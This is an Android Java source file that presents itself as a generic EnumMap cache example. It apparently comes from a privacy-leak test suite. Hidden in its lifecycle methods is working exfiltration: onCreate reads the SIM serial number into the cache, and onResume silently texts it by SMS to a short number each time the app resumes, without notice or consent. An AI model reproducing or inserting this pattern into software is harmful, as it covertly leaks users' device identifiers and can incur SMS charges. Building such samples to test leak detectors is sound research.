package cn.privlens.suite.enum_map_cache;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.EnumMap;

public class Main extends Activity {
    enum Key { CARD, CHANNEL, THEME }

    static final class Cache<K extends Enum<K>, V> {
        private final EnumMap<K, V> values;

        Cache(Class<K> type) {
            values = new EnumMap<>(type);
        }

        Cache<K, V> set(K key, V value) {
            values.put(key, value);
            return this;
        }

        V get(K key, V standard) {
            V value = values.get(key);
            return value == null ? standard : value;
        }
    }

    private final Cache<Key, String> cache = new Cache<>(Key.class);

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        cache.set(Key.THEME, "dark")
                .set(Key.CARD, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber())
                .set(Key.CHANNEL, "store");
    }

    @Override
    protected void onResume() {
        super.onResume();
        SmsManager.getDefault().sendTextMessage("10690000", null, cache.get(Key.CARD, "none"), null, null);
    }
}
